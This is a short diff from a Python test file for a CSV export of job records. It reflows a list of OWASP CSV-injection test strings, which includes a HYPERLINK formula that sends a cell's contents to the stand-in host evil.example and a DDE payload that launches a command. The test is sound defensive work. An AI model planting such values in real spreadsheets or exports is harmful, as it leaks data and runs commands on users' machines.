@@ -55,8 +55,7 @@ def test_job_without_result_gets_a_row(run):
     assert (row["job"], row["state"], row["fps"], row["node"]) == ("j-0008", "queued", "", "")
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-cmd|' /C calc'!A0", "@SUM(1+1)",
-            "\t=1", "\r=1"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1", "\r=1"]
 """Text a spreadsheet would run as a formula (OWASP CSV injection)."""
 
 
